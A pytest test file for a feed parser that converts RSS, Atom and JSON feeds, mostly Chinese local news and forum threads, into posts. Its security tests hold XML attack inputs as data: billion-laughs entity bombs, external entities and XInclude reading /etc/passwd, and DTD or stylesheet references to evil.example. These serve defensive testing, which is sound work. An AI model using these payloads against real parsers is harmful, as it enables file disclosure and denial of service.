"""Feeds: RSS, Atom and JSON Feed become posts, and what is not understood is said."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from msgspec.structs import replace

from streams.pages.page import Page, Reading
from streams.parsers import feed
from streams.source import Feed

FETCHED = datetime(2024, 11, 23, 2, 30, tzinfo=UTC)
PAGES = Path(__file__).parents[3] / "data" / "pages"
SOURCE = Feed(name="news", url="https://news.example.cn/rss", township="330206104")
MORNING = datetime(2024, 11, 23, 0, 15, tzinfo=UTC)


def read(body: bytes | str, source: Feed = SOURCE, charset: str | None = None) -> Reading:
    data = body.encode() if isinstance(body, str) else body
    return feed.read(Page(fetched=FETCHED, url=source.url, body=data, charset=charset), source)


def recorded(name: str) -> Reading:
    return read((PAGES / name).read_bytes())


def test_an_rss_item_becomes_a_post() -> None:
    """The longest text is the body, without script and style; emoji and rare characters stay; links are made whole."""
    post = recorded("news.rss.xml").posts[0]
    assert (post.id, post.url, post.author) == ("n-1123", "https://news.example.cn/2024/1123.html", "记者甲")
    assert post.title == "青溪镇中心小学围墙开裂 & 师生绕行"
    assert post.body == "围墙裂缝约三米。\n家长担心。😀𠮷"
    assert (post.published, post.kind) == (MORNING, "article")


def test_a_time_without_zone_is_local_and_a_missing_one_is_said() -> None:
    """Chinese sites write their own time; no time is no time, not now."""
    reading = recorded("news.rss.xml")
    assert reading.posts[2].published == datetime(2024, 11, 25, 1, tzinfo=UTC)
    assert reading.posts[1].published is None
    assert "time:missing" in reading.signals


def test_an_item_without_guid_goes_by_its_link() -> None:
    """Its address is stable enough."""
    assert recorded("news.rss.xml").posts[1].id == "https://news.example.cn/2024/1124.html"


def test_an_unused_field_is_said_until_it_is_ignored_by_name() -> None:
    """So that nothing that a site begins to say is overlooked in silence."""
    body = (PAGES / "news.rss.xml").read_bytes()
    assert "unused:tags" in read(body).signals
    ignoring = Feed(name="news", url="https://news.example.cn/rss", township="330206104", ignores=("tags",))
    assert not [signal for signal in read(body, ignoring).signals if signal.startswith("unused")]


def test_an_atom_entry_becomes_a_post() -> None:
    """Published, not updated, is its time; marks in its title go."""
    (post,) = recorded("news.atom.xml").posts
    assert (post.id, post.title, post.body) == ("urn:a:1", "停水通知", "明天停水。")
    assert (post.published, post.author) == (MORNING, "水务站")


def test_a_json_feed_becomes_posts() -> None:
    """Numbers as ids, plain text with signs that look like markup, an item that is none, yesterday's date."""
    first, second = recorded("news.feed.json").posts
    assert (first.id, first.body, first.author, first.published) == ("j1", "路灯坏了", "小李", MORNING)
    assert (second.id, second.body, second.published) == ("2", "a < b", MORNING - timedelta(days=1))
    assert set(recorded("news.feed.json").signals) == {"unused:tags"}


@pytest.mark.parametrize("charset", ["utf-8", "gbk", "latin-1", "big5", "nonsense", None])
def test_a_wrong_charset_is_seen_through(charset: str | None) -> None:
    """The server says one, the declaration another, and the bytes are in a third."""
    text = (PAGES / "news.rss.xml").read_text("utf-8")
    for body in (text.encode("utf-8"), text.encode("gb18030")):
        assert read(body, charset=charset).posts[0].body.startswith("围墙裂缝约三米")


@pytest.mark.parametrize(
    "body",
    [
        "",
        "\0\0\0",
        "<html><body>404</body></html>",
        "{",
        "[]",
        '{"items": 5}',
        '{"items": [[]]}',
        "/etc/passwd",
        "http://127.0.0.1/",
        "[" * 100_000,
        '{"items":' + "[" * 100_000,
    ],
)
def test_what_is_no_feed_has_no_posts(body: str) -> None:
    """Neither an error page, nor a name of a file or address: nothing is opened that was not fetched."""
    assert read(body).posts == ()


LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LONG = f'\n<!ENTITY a9 "{"x" * 100_000}">\n'


@pytest.mark.parametrize(
    "before", ["", "<?xml version='1.0'?>", "<?x y?>", "\ufeff", "<!-- <rss> -->", "<rss/>", "<rss>"]
)
@pytest.mark.parametrize(
    "declared", [LAUGHS, LONG, '<!ENTITY a9 SYSTEM "file:///etc/passwd">', '<!ENTITY a9 "&b;"><!ENTITY b "&a9;">']
)
def test_an_entity_is_not_expanded(before: str, declared: str) -> None:
    """A billion laughs stay one, and no file is read into a text, wherever they are declared."""
    used = "&a9;" * (1 if declared is LAUGHS else 2_000)
    body = (
        f"{before}<!DOCTYPE rss [{declared}]>"
        f"<rss version='2.0'><channel><item><guid>1</guid><title>t</title><description>{used}</description></item>"
        "</channel></rss>"
    )
    assert all(len(post.body) <= 8_000 and "root:" not in post.body for post in read(body).posts)


@pytest.mark.parametrize(
    "body",
    [
        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">{}',
        '<?x y?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>{}',
        '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>{}',
        '<rss version="2.0"><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></rss>{}',
    ],
)
def test_a_feed_leads_to_no_other_file(body: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither a DTD nor a stylesheet nor an inclusion is opened or fetched."""

    def opened(*_: object, **__: object) -> None:
        raise AssertionError("a feed opened something")

    for name in ("socket.socket.connect", "socket.getaddrinfo", "urllib.request.urlopen", "builtins.open"):
        monkeypatch.setattr(name, opened)
    item = "<rss version='2.0'><channel><item><guid>1</guid><title>t</title></item></channel></rss>"
    assert all("root:" not in post.body for post in read(body.format(item)).posts)


@pytest.mark.parametrize(
    "body",
    [
        "<rss version='2.0'><channel>" + "<item><a>" * 200_000,
        "<rss " + " ".join(f"a{number}='x'" for number in range(100_000)) + "><channel/></rss>",
    ],
)
def test_a_feed_beyond_all_measure_is_named(body: str) -> None:
    """A parser would be busy with it for minutes."""
    assert read(body).signals == ("page:overgrown",)


def test_a_picture_within_a_feed_is_no_measure() -> None:
    """A long tag is none of many attributes."""
    picture = f"<img src='data:image/png;base64,{'A' * 50_000}='>"
    item = f"<item><guid>1</guid><description><![CDATA[路{picture}断了]]></description></item>"
    assert [post.body for post in read(f"<rss version='2.0'><channel>{item}</channel></rss>").posts] == ["路断了"]


def test_names_of_html_stand_without_a_declaration() -> None:
    """Feeds use &nbsp; and the like though nobody declared them."""
    item = "<item><guid>1</guid><title>路&nbsp;断&middot;了&copy;</title></item>"
    assert [post.title for post in read(f"<rss version='2.0'><channel>{item}</channel></rss>").posts] == ["路 断·了©"]


@pytest.mark.parametrize("charset", ["utf-8", "gbk"])
def test_a_forums_feed_becomes_threads(charset: str) -> None:
    """Discuz! names no ids: a thread's own number is taken, which stays when its address is written otherwise."""
    reading = read((PAGES / "discuz.rss.xml").read_text("utf-8").encode(charset))
    assert [(post.id, post.kind, post.title) for post in reading.posts] == [
        ("101", "thread", "村口的桥裂了"),
        ("102", "thread", "路灯不亮"),
    ]
    assert [(post.author, post.published) for post in reading.posts] == [("桥边人", MORNING), ("夜行人", MORNING)]
    assert reading.posts[0].body == "桥面裂了一条缝，货车还在走。有人管吗？ ..."
    assert reading.signals == ("unused:tags",)


FULL = Feed(name="bbs", url="https://bbs.example.cn/rss", township="330206104", full="div.body", ignores=("tags",))


def test_entries_lead_to_their_whole_texts() -> None:
    """Each to its own page on the feed's host or its origin's; another host is not asked, and its entry stands."""
    body = (PAGES / "discuz.rss.xml").read_bytes()
    reading = read(body, FULL)
    first, second = reading.links
    assert (first.url, first.role) == ("https://bbs.example.cn/forum.php?mod=viewthread&tid=101", "entry")
    assert (reading.posts, reading.entries[second.url].id) == ((), "102")
    assert first.stamp != second.stamp
    elsewhere = replace(FULL, url="https://feeds.example.org/bbs")
    assert ([post.id for post in read(body, elsewhere).posts], read(body, elsewhere).links) == (["101", "102"], ())
    assert read(body, elsewhere).signals == ("link:foreign",)
    assert read(body, replace(elsewhere, origin="https://bbs.example.cn/")).links == reading.links


def test_the_longer_text_is_the_entrys() -> None:
    """With what the feed says of it; a page that has less, or nothing, is said."""
    body = (PAGES / "discuz.rss.xml").read_bytes()
    entry = read(body, FULL).entries["https://bbs.example.cn/thread-102-1-1.html"]

    def whole(html: str, source: Feed = FULL) -> Reading:
        page = Page(url=str(entry.url), body=html.encode("gbk"), fetched=FETCHED, role="entry", entry=entry)
        return feed.read(page, source)

    part = replace(entry, partial=True)
    longer = whole("<div class=body>中街的路灯三天不亮，<br>昨晚有人摔倒。</div>")
    assert longer == Reading((replace(entry, body="中街的路灯三天不亮，\n昨晚有人摔倒。"),))
    quoted = "<div class=body><i>昨天有人说：路灯坏了</i>中街的路灯三天不亮，昨晚有人摔倒。</div>"
    assert whole(quoted, replace(FULL, without=("i",))).posts[0].body == "中街的路灯三天不亮，昨晚有人摔倒。"
    for mark in ("……[阅读全文]", "...", "… 查看更多>>", " （点击全文）"):
        cut = replace(entry, body=f"中街的路灯三天不亮{mark}")
        page = Page(
            url="https://a.cn/1", body="<div class=body>中街的路灯三天不亮了</div>".encode(), fetched=FETCHED, entry=cut
        )
        assert feed.read(replace(page, role="entry"), FULL).posts[0].body == "中街的路灯三天不亮了"
    assert whole("<div class=body>登录后可见</div>") == Reading((part,), (), ("full:shorter",))
    assert whole("<div class=text>改版了</div>") == Reading((part,), (), ("full:missing",))


def test_a_feed_of_thousands_is_followed_so_far() -> None:
    """The others are published as the feed has them: a visit is not to last for hours."""
    items = [{"id": n, "url": f"https://bbs.example.cn/{n}", "content_text": "x"} for n in range(feed.FOLLOWED + 5)]
    reading = read(json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": items}), FULL)
    assert (len(reading.links), len(reading.posts)) == (feed.FOLLOWED, 5)


@pytest.mark.parametrize(
    "body",
    [
        '{"items":[' + ",".join(["{}"] * 100_000) + "]}",
        '{"items":[' + "[" * 60_000,
        '<rss version="2.0"><channel>' + "<item><category>x</category></item>" * 6_000,
    ],
)
def test_a_feed_of_more_than_any_feed_has_is_not_read(body: str) -> None:
    """It would hold a processor for half a minute."""
    assert read(body) == Reading(signals=("page:overgrown",))


@pytest.mark.parametrize("feed_of", ["json", "rss"])
def test_of_a_feed_with_thousands_of_entries_the_first_are_read(feed_of: str) -> None:
    """Two thousand; the newest stand first, and that there are more is said."""
    names = [f"https://news.example.cn/{number}" for number in range(3_000)]
    items = "".join(f"<item><guid>{name}</guid><title>题</title></item>" for name in names)
    body = f'<rss version="2.0"><channel>{items}</channel></rss>'
    if feed_of == "json":
        body = json.dumps({"items": [{"id": name, "title": "题"} for name in names]})
    reading = read(body)
    assert [post.id for post in reading.posts] == names[:2_000]
    assert "page:overgrown" in reading.signals


def test_whole_texts_make_no_feed_too_large() -> None:
    """Tags of texts within CDATA are no tags of the feed: a hundred long articles are read."""
    text = f"<![CDATA[{'<p>话</p>' * 200}]]>"
    items = "".join(f"<item><guid>{number}</guid><description>{text}</description></item>" for number in range(100))
    reading = read(f'<rss version="2.0"><channel>{items}</channel></rss>')
    assert (len(reading.posts), set(reading.signals)) == (100, {"time:missing"})


def test_a_feed_says_of_many_entries_once_what_they_lack() -> None:
    """A signal is of a page, as it is of the other kinds."""
    assert recorded("news.rss.xml").signals.count("time:missing") == 1


def test_a_notice_in_a_posts_place_is_not_its_words() -> None:
    """Of an entry's text nothing is left; an entry's own page that shows nothing else says that it is gone."""
    item = "<item><title>桥</title><guid>1</guid><description>提示: 该帖被管理员或版主屏蔽</description></item>"
    (post,) = read(f"<rss version='2.0'><channel>{item}</channel></rss>").posts
    assert (post.title, post.body) == ("桥", "")
    whole = replace(SOURCE, full="td.t_f")
    for body in ("<table><td class=t_f>该帖被管理员或版主屏蔽</table>", "<p>作者被禁止或删除 内容自动屏蔽"):
        page = Page(fetched=FETCHED, url="https://news.example.cn/1", body=body.encode(), role=feed.ENTRY, entry=post)
        assert feed.read(page, whole).gone
